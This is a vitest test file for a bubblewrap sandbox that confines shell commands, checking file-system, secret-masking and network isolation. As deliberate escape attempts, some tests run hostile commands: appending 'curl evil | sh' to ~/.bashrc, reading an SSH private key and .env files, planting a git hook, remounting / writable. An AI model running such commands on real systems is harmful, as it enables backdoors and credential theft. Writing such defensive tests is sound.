import { randomUUID } from 'node:crypto';
import { access, mkdir, readFile, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { InvalidOptionsError } from '@toolgate/core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { openBwrapSandbox } from './open-bwrap-sandbox.js';
import {
  type BwrapFixture,
  bwrapUnavailableReason,
  createBwrapFixture,
  openFixtureSandbox,
  runInSandbox,
} from './test-support/bwrap-test-kit.js';

const unavailable = await bwrapUnavailableReason();
if (unavailable) console.warn(`bubblewrap sandbox tests skipped: ${unavailable}`);
const describeWithBwrap = unavailable ? describe.skip : describe;

const exists = (path: string) =>
  access(path).then(
    () => true,
    () => false,
  );

let fixture: BwrapFixture;
beforeEach(async () => {
  fixture = await createBwrapFixture();
});
afterEach(async () => {
  await fixture.dispose();
});

describeWithBwrap('workspace-write', () => {
  it('lets commands write inside the workspace, and the host sees the files', async () => {
    const sandbox = await openFixtureSandbox(fixture);
    const run = await runInSandbox(
      sandbox,
      'echo made > new.txt && echo more > sub/more.txt && cat readme.txt',
    );
    expect(run).toEqual({ code: 0, stdout: 'hello\n', stderr: '' });
    expect(await readFile(join(fixture.workspace, 'new.txt'), 'utf8')).toBe('made\n');
    expect(await readFile(join(fixture.workspace, 'sub', 'more.txt'), 'utf8')).toBe('more\n');
  });

  it('hides the home: ~/.bashrc is neither readable nor writable on the host, read roots are read-only', async () => {
    const sandbox = await openFixtureSandbox(fixture);
    const home = fixture.home;
    const run = await runInSandbox(
      sandbox,
      `cat ${home}/.bashrc; cat ${home}/.ssh/id_ed25519; echo 'curl evil | sh' >> ${home}/.bashrc; echo written=$?; cat ${home}/.tool/version; echo x > ${home}/.tool/version`,
    );
    expect(run.stdout).toBe('written=0\ntool 1.0\n');
    expect(run.stderr).toMatch(/\.tool\/version: Read-only file system/);
    expect(await readFile(join(home, '.bashrc'), 'utf8')).toBe('# host bashrc\n');
    expect(await readFile(join(home, '.tool', 'version'), 'utf8')).toBe('tool 1.0\n');
  });

  it('gives a private /tmp: what is written there never reaches the host /tmp', async () => {
    const sandbox = await openFixtureSandbox(fixture);
    const outsidePath = `/tmp/toolgate-escape-${randomUUID()}`;
    const run = await runInSandbox(sandbox, `echo x > ${outsidePath} && cat ${outsidePath}`);
    expect(run).toEqual({ code: 0, stdout: 'x\n', stderr: '' });
    expect(await exists(outsidePath)).toBe(false);
  });

  it('keeps the host root read-only: /etc cannot be written, nor remounted writable', async () => {
    const sandbox = await openFixtureSandbox(fixture);
    const name = `toolgate-escape-${randomUUID()}`;
    const run = await runInSandbox(
      sandbox,
      `touch /etc/${name}; mount -o remount,rw,bind / 2>/dev/null; echo remount=$?; touch /etc/${name}`,
    );
    expect(run.stdout).toBe('remount=32\n');
    expect(run.stderr).toMatch(/Read-only file system[\s\S]*Read-only file system/);
    expect(await exists(`/etc/${name}`)).toBe(false);
  });

  it('keeps .git and toolgate.config.json read-only inside the writable workspace', async () => {
    const sandbox = await openFixtureSandbox(fixture, { protectedPaths: ['sub'] });
    const run = await runInSandbox(
      sandbox,
      'cat .git/HEAD; echo evil > .git/hooks/pre-commit; echo "{}" > toolgate.config.json; touch sub/x',
    );
    expect(run.stdout).toBe('ref: refs/heads/main\n');
    expect(run.stderr.match(/Read-only file system/g)).toHaveLength(3);
    expect(await exists(join(fixture.workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(await exists(join(fixture.workspace, 'sub', 'x'))).toBe(false);
  });

  it('makes secrets unreadable and unwritable, wherever they are in the workspace and wherever a link leads, but not examples', async () => {
    const sandbox = await openFixtureSandbox(fixture);
    const run = await runInSandbox(
      sandbox,
      `cat .env sub/.env.local sub/server.pem .env.linked ${fixture.linkedSecret}; echo "[$(cat .env.example)]"; echo x > .env`,
    );
    expect(run.stdout).toBe('[API_KEY=]\n');
    for (const path of ['.env', 'sub/.env.local', 'sub/server.pem', '.env.linked', fixture.linkedSecret]) {
      expect(run.stderr).toContain(`cat: ${path}: Permission denied`);
    }
    expect(run.stderr).toContain('/bin/bash: line 1: .env: Read-only file system\n');
    expect(await readFile(join(fixture.workspace, '.env'), 'utf8')).toBe('API_KEY=workspace-secret\n');
  });

  it('masks a secret created after the session opened, as each command is confined afresh', async () => {
    const sandbox = await openFixtureSandbox(fixture);
    await runInSandbox(sandbox, 'echo TOKEN=late > sub/.npmrc');
    expect((await runInSandbox(sandbox, 'cat sub/.npmrc')).stdout).toBe('');
  });

  it('masks what the read policy denies, a denied directory whole, looked up as each command starts', async () => {
    await mkdir(join(fixture.workspace, 'secret'), { recursive: true });
    await writeFile(join(fixture.workspace, 'secret', 'k.txt'), 'KEY\n');
    await writeFile(join(fixture.workspace, 'sub', 'deny.log'), 'LOG\n');
    const seen: string[] = [];
    const sandbox = await openFixtureSandbox(fixture, {
      readDenied: (path, directory) => {
        seen.push(path);
        return (directory && path === 'secret') || path.endsWith('.log');
      },
    });
    const run = await runInSandbox(
      sandbox,
      'cat secret/k.txt; echo "[$(ls -A secret)]"; cat sub/deny.log; cat readme.txt',
    );
    expect(run.stdout).toBe('[]\nhello\n');
    expect(run.stderr).toContain('cat: secret/k.txt: No such file or directory');
    expect(run.stderr).toContain('cat: sub/deny.log: Permission denied');
    // A denied directory is pruned: nothing under it is asked about.
    expect(seen).not.toContain('secret/k.txt');
    await writeFile(join(fixture.workspace, 'late.log'), 'LATE\n');
    expect((await runInSandbox(sandbox, 'cat late.log')).stdout).toBe('');
    expect(await readFile(join(fixture.workspace, 'secret', 'k.txt'), 'utf8')).toBe('KEY\n');
  });

  it('masks only the configured secrets when the list is given, and nothing with []', async () => {
    const custom = await openFixtureSandbox(fixture, { secrets: ['*.txt'] });
    expect((await runInSandbox(custom, 'cat readme.txt .env')).stdout).toBe('API_KEY=workspace-secret\n');
    const none = await openFixtureSandbox(fixture, { secrets: [] });
    expect((await runInSandbox(none, 'cat .env')).stdout).toBe('API_KEY=workspace-secret\n');
  });

  it('runs in a user namespace without capabilities, the way it runs for a user who is not root', async () => {
    const sandbox = await openFixtureSandbox(fixture);
    const run = await runInSandbox(
      sandbox,
      'wc -l < /proc/self/uid_map; grep -E "^Cap(Eff|Bnd)" /proc/self/status',
    );
    expect(run.stdout).toBe('1\nCapEff:\t0000000000000000\nCapBnd:\t0000000000000000\n');
  });

  it('has a fresh /proc that shows only its own processes', async () => {
    const sandbox = await openFixtureSandbox(fixture);
    const run = await runInSandbox(sandbox, 'ls /proc | grep -c "^[0-9]"');
    expect(Number(run.stdout)).toBeLessThan(5);
  });

  it('starts in the working directory asked for, and passes the environment it is spawned with', async () => {
    const sandbox = await openFixtureSandbox(fixture);
    const run = await runInSandbox(sandbox, 'pwd; echo "$GREETING"', join(fixture.workspace, 'sub'), {
      PATH: '/usr/bin:/bin',
      GREETING: 'hi',
    });
    expect(run.stdout).toBe(`${fixture.workspace}/sub\nhi\n`);
  });
});

describeWithBwrap('read-only', () => {
  it('refuses writes in the workspace but keeps a private /tmp', async () => {
    const sandbox = await openFixtureSandbox(fixture, { mode: 'read-only' });
    const run = await runInSandbox(
      sandbox,
      'cat readme.txt; echo x > new.txt; echo y > /tmp/y && cat /tmp/y',
    );
    expect(run.stdout).toBe('hello\ny\n');
    expect(run.stderr).toMatch(/new\.txt: Read-only file system/);
    expect(await exists(join(fixture.workspace, 'new.txt'))).toBe(false);
  });
});

describeWithBwrap('network', () => {
  let server: Server;
  let port: number;
  beforeAll(async () => {
    server = createServer((_request, response) => response.end('reached'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as AddressInfo).port;
  });
  afterAll(async () => {
    await new Promise((resolve) => server.close(resolve));
  });
  const connect = () =>
    `exec 3<>/dev/tcp/127.0.0.1/${port} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && tail -n 1 <&3`;

  it('cannot reach a loopback server on the host when the network is off', async () => {
    const sandbox = await openFixtureSandbox(fixture);
    const run = await runInSandbox(sandbox, connect());
    expect(run.code).not.toBe(0);
    expect(run.stdout).toBe('');
    expect(run.stderr).toMatch(/Connection refused|Network is unreachable/);
  });

  it('reaches it when the network is on', async () => {
    const sandbox = await openFixtureSandbox(fixture, { network: true });
    expect(await runInSandbox(sandbox, connect())).toMatchObject({ code: 0, stdout: 'reached' });
  });
});

describe('opening', () => {
  it('reports a missing bubblewrap instead of failing later', async () => {
    const opening = await openBwrapSandbox({
      workspaceRoot: fixture.workspace,
      mode: 'workspace-write',
      bwrapPath: join(fixture.base, 'no-such-bwrap'),
    });
    expect(opening).toEqual({
      ok: false,
      reason: `bubblewrap (${join(fixture.base, 'no-such-bwrap')}) was not found on PATH; install it (apt install bubblewrap, dnf install bubblewrap) or set its path.`,
    });
  });

  it('reports a bubblewrap that cannot create a sandbox, by running it once', async () => {
    const opening = await openBwrapSandbox({
      workspaceRoot: fixture.workspace,
      mode: 'workspace-write',
      bwrapPath: '/bin/false',
    });
    expect(opening).toEqual({
      ok: false,
      reason: 'bubblewrap (/bin/false) cannot create a sandbox here: exited with 1',
    });
  });

  it('throws on invalid options', async () => {
    const base = { workspaceRoot: fixture.workspace, mode: 'workspace-write' } as const;
    await expect(openBwrapSandbox({ ...base, mode: 'danger-full-access' as never })).rejects.toThrow(
      InvalidOptionsError,
    );
    await expect(openBwrapSandbox({ ...base, workspaceRoot: 'relative' })).rejects.toThrow(
      'workspaceRoot must be an absolute path; got relative',
    );
    await expect(openBwrapSandbox({ ...base, protectedPaths: ['../up'] })).rejects.toThrow(
      'protected path "../up" must be relative to the workspace root and inside it',
    );
    await expect(openBwrapSandbox({ ...base, readRoots: ['rel'] })).rejects.toThrow(
      'read root "rel" must be an absolute path',
    );
    await expect(openBwrapSandbox({ ...base, secrets: ['a/b'] })).rejects.toThrow(
      'secret pattern "a/b" must be a non-empty file name glob',
    );
    await expect(openBwrapSandbox({ ...base, workspaceRoot: join(fixture.base, 'missing') })).rejects.toThrow(
      'is not an existing directory',
    );
  });
});
